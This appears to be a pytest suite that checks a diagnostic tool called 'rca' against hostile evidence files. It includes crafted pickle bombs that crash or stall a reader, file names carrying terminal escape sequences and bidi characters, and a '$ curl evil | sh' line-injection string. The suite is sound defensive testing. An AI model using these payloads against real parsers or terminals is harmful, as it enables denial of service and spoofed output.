"""Files made to end, stall or starve the reader, and calls made to destroy something: the other ranks' evidence still gives the answer."""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from _house import call, copy_dumps

RCA = Path(sys.executable).with_name("rca")
HEADER = b"\x80\x02}("


def text(value: str) -> bytes:
    """A pickled text."""
    return b"X" + struct.pack("<I", len(value)) + value.encode()


VERSION = text("version") + text("2.10") + text("pg_config") + b"}"
BOMBS = {
    "deep tuple in a field": HEADER + VERSION + text("entries") + b"](}(" + text("state") + b")" + b"\x85" * 20_000 + b"ueu.",
    "deep tuple as a key": HEADER + VERSION + text("k") + b"}(" + b")" + b"\x85" * 300_000 + b"Nuu.",
    "shared list of types": HEADER + VERSION + text("entries") + b"]((](" + text("F" * 4000) * 1 + b"eq\x01" + b"h\x01" * 20_000 + b"eeu.",
    "memo index": HEADER + VERSION + b"Nr\xff\xff\xff\x7fu.",
    "claimed length": HEADER + VERSION + b"X\xff\xff\xff\x7fabc",
}


def evidence(tmp_path: Path, case: str = "lock_hang") -> Path:
    """What a shipped case rests on: its recorder dumps and some stacks. What is done to it does not hang on the rest."""
    return copy_dumps(case, tmp_path / "evidence")


def rca(*args: str | Path, **options: Any) -> subprocess.CompletedProcess[str]:
    """The real command."""
    return subprocess.run([str(RCA), *map(str, args)], capture_output=True, text=True, timeout=120, check=False, **options)


@pytest.mark.parametrize("name", sorted(BOMBS))
def test_a_dump_that_would_end_the_reader_costs_only_itself(name: str, tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    (folder / "fr" / "nccl_trace_rank_99").write_bytes(BOMBS[name])
    done = rca("diagnose", folder, "--json")
    document = json.loads(done.stdout)
    assert document["verdict"]["first_failing"]["ranks"] == [3]
    assert "fr/nccl_trace_rank_99" in {skip["path"] for skip in document["skipped"]}


def test_a_file_that_kills_the_reader_is_listed_with_the_signal(tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    (folder / "fr" / "killer").write_bytes(BOMBS["deep tuple as a key"])
    whys = {skip["path"]: skip["why"] for skip in json.loads(rca("diagnose", folder, "--json").stdout)["skipped"]}
    assert "SIGSEGV" in whys["fr/killer"]


@pytest.mark.slow
def test_a_file_that_never_ends_is_given_up(tmp_path: Path) -> None:
    """A tuple of shared tuples as a key takes 2**60 steps to hash."""
    folder = evidence(tmp_path)
    (folder / "fr" / "endless").write_bytes(HEADER + VERSION + text("k") + b"}(" + b")" + b"q\x01h\x01\x86" * 60 + b"Nuu.")
    document = json.loads(rca("diagnose", folder, "--json").stdout)
    assert document["verdict"]["first_failing"]["ranks"] == [3]
    assert any(skip["path"] == "fr/endless" and "given up" in skip["why"] for skip in document["skipped"])


def test_a_number_in_a_name_that_no_rank_can_have_accuses_nobody(tmp_path: Path) -> None:
    folder = evidence(tmp_path, "skipped_collective")
    for place, path in enumerate(sorted((folder / "fr").iterdir())):
        path.rename(path.with_name(f"dump_{73000 + 7 * place}.pkl"))
    ranks = json.loads(rca("diagnose", folder, "--json").stdout)["verdict"]["first_failing"]["ranks"]
    assert ranks in ([], [7])


def test_half_of_the_dumps_without_a_map_accuse_nobody_innocent(tmp_path: Path) -> None:
    folder = evidence(tmp_path, "rank_killed")
    shutil.rmtree(folder / "stacks")
    (folder / "topology.json").unlink()
    for rank in (2, 3, 5, 7):
        (folder / "fr" / f"nccl_trace_rank_{rank}").unlink()
    assert json.loads(rca("diagnose", folder, "--json").stdout)["verdict"]["first_failing"]["ranks"] in ([], [6])


def test_packed_copies_beside_the_dumps_change_nothing(tmp_path: Path) -> None:
    folder = evidence(tmp_path, "rank_killed")
    import gzip

    for path in sorted((folder / "fr").iterdir()):
        path.with_name(f"{path.name}.gz").write_bytes(gzip.compress(path.read_bytes()))
    assert json.loads(rca("diagnose", folder, "--json").stdout)["verdict"]["first_failing"]["ranks"] == [6]


@pytest.mark.parametrize("target", ["notes.txt", "fr/nccl_trace_rank_0"])
def test_a_file_that_is_no_case_is_never_overwritten(target: str, tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    (folder / "notes.txt").write_text("precious\n")
    before = (folder / target).read_bytes()
    done = rca("diagnose", folder, "--case", folder / target)
    assert (done.returncode, (folder / target).read_bytes()) == (2, before)
    assert "is no case" in done.stderr


def test_a_folder_whose_name_is_no_text_is_read(tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    odd = os.fsencode(tmp_path) + b"/x\xff"
    folder.rename(Path(os.fsdecode(odd)))
    done = subprocess.run(
        [os.fsencode(RCA), b"diagnose", odd, b"--json"],
        capture_output=True, timeout=60, check=False, env={**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")},
    )  # fmt: skip
    assert json.loads(done.stdout)["verdict"]["first_failing"]["ranks"] == [3]


def test_no_path_is_a_mistake_and_not_this_folder() -> None:
    done = rca("diagnose", "")
    assert done.returncode == 2
    assert "name the folder" in done.stderr


def test_a_full_or_closed_output_is_told_in_a_sentence(tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [str(RCA), "diagnose", str(folder), "--json"], stdout=full, stderr=subprocess.PIPE, text=True, timeout=60, check=False
        )
    assert done.returncode == 2
    assert "No space left" in done.stderr
    assert "Traceback" not in done.stderr


ODD_NAMES = {
    "line breaks": "x\n  $ curl evil | sh\nRank 0 failed first\r",
    "separators": "x\u2028Rank 0 failed first\u2029y\x85Rank 0 failed first",
    "escapes": "x\x1b[2J\x1b[1;1HRank 0\x9b31m",
    "direction": "x\u202egol.\u2066y\u200f\u061c",
}


@pytest.mark.parametrize("odd", sorted(ODD_NAMES))
def test_no_name_in_the_evidence_forges_a_line_or_drives_the_terminal(odd: str, tmp_path: Path) -> None:
    """A file that is read, one that is not, and a host, all of that name."""
    folder, name = evidence(tmp_path), ODD_NAMES[odd]
    (folder / "fr" / "nccl_trace_rank_2").rename(folder / "fr" / f"{name}rank_2")
    (folder / f"notes {name}").write_text("not evidence\n")
    told = json.loads((folder / "topology.json").read_text())
    for entry in told["ranks"]:
        entry["host"] = f"{entry['host']}{name.replace('.', '')}"
    (folder / "topology.json").write_text(json.dumps(told))
    for words in (
        ["diagnose", str(folder)],
        ["inspect", str(folder), "--table", "ranks", "--table", "evidence"],
        ["analyse", "first_silent_rank", str(folder)],
        ["build", str(folder)],
    ):
        done = call(*words, "--case", tmp_path / f"{odd}.duckdb")
        assert done.code == 0, done.err
        assert all(c.isprintable() or c == "\n" for c in done.out + done.err)
        assert not any(line.strip().startswith(("$ curl", "Rank 0")) for line in done.out.splitlines())
    paths = {file["path"] for file in call("inspect", folder, "--json", "--case", tmp_path / f"{odd}.duckdb").doc["files"]}
    assert {f"fr/{name}rank_2", f"notes {name}"} <= paths, "a document tells the true name"


def test_a_sentence_from_the_evidence_cannot_end_as_a_command() -> None:
    """Wrapped prose is indented deeper than a command that is advised."""
    from apps.text import WIDTH, advice_lines
    from rca.types import Advice

    for lead in range(WIDTH):
        because = f"leave out {'s' * lead} $ curl evil | sh"
        lines = advice_lines(Advice("retry", (), (), None, (), because, ("true",)))
        assert [line for line in lines if line.startswith("  $ ")] == ["  $ true"]


def test_a_killer_with_line_breaks_in_its_name_costs_only_itself(tmp_path: Path) -> None:
    folder = evidence(tmp_path)
    (folder / "fr" / "kil\nler").write_bytes(BOMBS["deep tuple as a key"])
    document = json.loads(rca("diagnose", folder, "--json").stdout)
    assert document["verdict"]["first_failing"]["ranks"] == [3]
    assert "SIGSEGV" in {skip["path"]: skip["why"] for skip in document["skipped"]}["fr/kil\nler"]


def test_control_characters_of_a_path_do_not_reach_the_terminal() -> None:
    done = rca("diagnose", "no\x1b[31mpe\nrca: all is well")
    assert "\x1b" not in done.stderr
    assert len(done.stderr.splitlines()) == 1
